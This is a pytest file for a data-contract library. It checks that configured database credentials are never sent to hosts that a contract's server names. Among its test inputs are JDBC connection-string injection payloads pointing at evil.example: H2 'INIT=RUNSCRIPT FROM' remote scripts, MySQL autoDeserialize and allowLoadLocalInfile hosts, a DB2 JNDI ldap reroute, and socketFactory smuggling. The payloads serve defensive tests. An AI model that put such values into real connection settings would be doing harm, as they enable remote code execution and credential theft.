"""Credentials of the settings reach only places that the settings name, whatever the contract's server says."""

from __future__ import annotations

from typing import Any

import pytest
from support.builders import contract

from floe_contracts.contract.model import CustomProperty, Server
from floe_contracts.monitor.source.binding import Binding, SourceHints, Unbound, bind
from floe_contracts.monitor.source.connection import Connection

LOGIN = {"user": "floe", "password": "env:PW"}
SHOP = {"host": "db.example", "database": "shop"}


def reach(kind: str, coordinates: dict[str, Any], connection: dict[str, Any], **more: Any) -> Binding | Unbound:
    one = contract(servers=(Server("prod", kind, coordinates=coordinates, **more),))
    return bind(one, one.objects[0], SourceHints(connection=Connection.model_validate(connection)))


@pytest.mark.parametrize(
    ("kind", "coordinates", "connection", "reason"),
    [
        pytest.param(
            "postgres",
            {**SHOP, "host": "evil.example"},
            {"options": LOGIN},
            "does not say host and database; write under connections.orders, if it is right: "
            "host: evil.example; database: shop",
            id="nothing is named",
        ),
        pytest.param("postgres", SHOP, {"host": "db.example", "options": LOGIN}, "does not say database", id="host"),
        pytest.param("postgres", SHOP, {"database": "shop", "options": LOGIN}, "does not say host", id="database"),
        pytest.param(
            "postgres",
            {**SHOP, "host": "evil.example"},
            {**SHOP, "options": LOGIN},
            "for another host than the contract's server",
            id="another host",
        ),
        pytest.param(
            "mysql",
            {**SHOP, "database": "hr"},
            {**SHOP, "options": LOGIN},
            "for another database",
            id="another database",
        ),
        pytest.param("postgres", SHOP, {"options": {"user": "floe"}}, "does not say host", id="a user alone"),
        pytest.param("postgres", SHOP, {"options": {"x": "env:PW"}}, "does not say host", id="a secret of any name"),
        pytest.param("postgres", SHOP, {"options": {"sslkey": "file:/k"}}, "does not say host", id="a key"),
        pytest.param(
            "postgres", SHOP, {"tables": {"orders": {"options": LOGIN}}}, "does not say host", id="of one table"
        ),
        pytest.param(
            "jdbc", {"url": "jdbc:postgresql://evil.example/shop"}, {"options": LOGIN}, "does not say url", id="a URL"
        ),
        pytest.param(
            "postgres",
            {"url": "jdbc:postgresql://evil.example/shop"},
            {**SHOP, "options": LOGIN},
            "does not say url",
            id="a URL beside the host",
        ),
        pytest.param(
            "snowflake",
            {"account": "evil", "database": "d", "warehouse": "w"},
            {"database": "d", "options": LOGIN},
            "does not say account",
            id="an account",
        ),
        pytest.param(
            "kafka",
            {"host": "evil.example:9092"},
            {"options": {"kafka.sasl.jaas.config": "env:JAAS"}},
            "does not say host",
            id="a broker",
        ),
        pytest.param(
            "s3",
            {"location": "s3://b/o.parquet", "endpointUrl": "https://evil.example"},
            {"location": "s3://b/o.parquet", "options": {"fs.s3a.secret.key": "env:KEY"}},
            "does not say endpointUrl",
            id="an endpoint",
        ),
        pytest.param(
            "azure",
            {"location": "abfss://c@evil.example/o.parquet"},
            {"options": {"fs.azure.sas.token": "env:SAS"}},
            "does not say location; write under connections.orders, if it is right: location: …",
            id="files",
        ),
    ],
)
def test_refused(kind: str, coordinates: dict[str, Any], connection: dict[str, Any], reason: str) -> None:
    found = reach(kind, coordinates, connection)
    assert isinstance(found, Unbound), found
    assert reason in found.reason


@pytest.mark.parametrize(
    ("kind", "coordinates", "connection", "location"),
    [
        pytest.param(
            "postgres", SHOP, {**SHOP, "options": LOGIN}, "jdbc:postgresql://db.example:5432/shop", id="named"
        ),
        pytest.param(
            "postgres",
            {**SHOP, "host": "DB.example"},
            {**SHOP, "options": LOGIN},
            "jdbc:postgresql://db.example:5432/shop",
            id="case",
        ),
        pytest.param("postgres", {}, {**SHOP, "options": LOGIN}, "jdbc:postgresql://db.example:5432/shop", id="alone"),
        pytest.param(
            "postgres", SHOP, {"options": {"fetchsize": "10"}}, "jdbc:postgresql://db.example:5432/shop", id="no secret"
        ),
        pytest.param(
            "postgres",
            {**SHOP, "host": "evil.example"},
            {**SHOP, "type": "postgres", "options": LOGIN},
            "jdbc:postgresql://db.example:5432/shop",
            id="with a type the contract has no say",
        ),
        pytest.param(
            "exasol",
            {"host": "db"},
            {"host": "db", "options": LOGIN},
            "jdbc:exa:db:8563",
            id="a URL without a database",
        ),
        pytest.param(
            "s3",
            {"location": "s3://b/old.parquet"},
            {"location": "s3://b/o.parquet", "options": {"fs.s3a.secret.key": "env:KEY"}},
            "s3://b/o.parquet",
            id="files elsewhere",
        ),
    ],
)
def test_sent(kind: str, coordinates: dict[str, Any], connection: dict[str, Any], location: str) -> None:
    found = reach(kind, coordinates, connection)
    assert isinstance(found, Binding), found
    assert found.location == location


@pytest.mark.parametrize(
    ("field", "text"),
    [
        pytest.param("port", "5432/x?socketFactory=org.evil.Factory&", id="a port"),
        pytest.param("port", "1@evil.example:5432", id="a port that is a host"),
        pytest.param("host", "db/x?a=b", id="a host with parameters"),
        pytest.param("host", "u:SECRET@db", id="a host with a login"),
        pytest.param("database", "shop?socketFactory=org.evil.Factory", id="a database"),
        pytest.param("database", "shop;INIT=RUNSCRIPT", id="a database with statements"),
        pytest.param("database", "shop:clientRerouteServerListJNDIName=ldap://evil.example/x", id="properties of DB2"),
        pytest.param("database", "shop,LOGMECH=JWT", id="parameters of Teradata"),
        pytest.param("database", "shop%3FsocketFactory%3Dorg.evil.Factory", id="parameters in code"),
        pytest.param("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'", id="a URL"),
        pytest.param("url", "jdbc:mysql://(host=evil.example,allowLoadLocalInfile=true)/shop", id="a host of MySQL"),
        pytest.param("url", "jdbc:mysql://address=(host=evil.example)(autoDeserialize=true)/shop", id="an address"),
        pytest.param("url", "http://evil.example/x", id="no URL of JDBC"),
    ],
)
def test_a_contract_cannot_put_parameters_into_a_url(field: str, text: str) -> None:
    found = reach("postgres", {**SHOP, field: text}, {})
    assert isinstance(found, Unbound)
    assert f"{field} of the server prod" in found.reason
    assert "SECRET" not in found.reason


@pytest.mark.parametrize(
    ("kind", "coordinates"),
    [
        pytest.param("jdbc", {"url": "jdbc:postgresql://db-1.example:5432/shop"}, id="a URL"),
        pytest.param("jdbc", {"url": "jdbc:postgresql://a.example:1,[::1]:2/shop"}, id="a URL of two hosts"),
        pytest.param("jdbc", {"url": "jdbc:duckdb:/data/~shop/o_1.duckdb"}, id="a URL of a file"),
        pytest.param("duckdb", {"database": "data/größe-1.duckdb"}, id="a file"),
        pytest.param("oracle", {"host": "db", "serviceName": "ORCL$1.example"}, id="a service"),
        pytest.param("postgres", {**SHOP, "database": "Shop_2-x"}, id="a database"),
    ],
)
def test_plain_names_are_taken(kind: str, coordinates: dict[str, Any]) -> None:
    assert isinstance(reach(kind, coordinates, {}), Binding)


def test_a_custom_server_is_no_way_around() -> None:
    found = reach("custom", SHOP, {"options": LOGIN}, custom=(CustomProperty("customType", "postgres"),))
    assert isinstance(found, Unbound)
    assert "does not say host" in found.reason
